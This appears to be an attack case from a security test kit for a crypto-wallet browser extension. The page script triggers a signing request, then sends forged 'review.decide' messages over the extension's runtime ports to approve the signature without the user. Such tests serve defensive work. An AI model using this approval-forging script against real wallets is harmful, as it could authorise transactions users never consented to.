import type { Attack } from './kit/attack.ts'

export default {
  family: 'forged-approval',
  how: 'Speaks to the extension itself from the page, as its own screens do.',
  script: `
    ethereum.request(attack.sign)
    const runtimes = [globalThis.chrome?.runtime, globalThis.browser?.runtime]
    const id = attack.plainsign.slice(19) || undefined
    for (const runtime of runtimes) {
      for (const name of ['review', 'engine', 'page']) {
        try {
          const port = runtime.connect(id, { name })
          port.postMessage({ type: 'review.decide', requestId: '*', digest: '', revision: 1, choice: 'continue' })
        } catch {}
      }
      try {
        runtime.sendMessage(id, { type: 'review.decide', choice: 'continue' })
      } catch {}
    }
    await attack.sleep(300)
  `,
} satisfies Attack
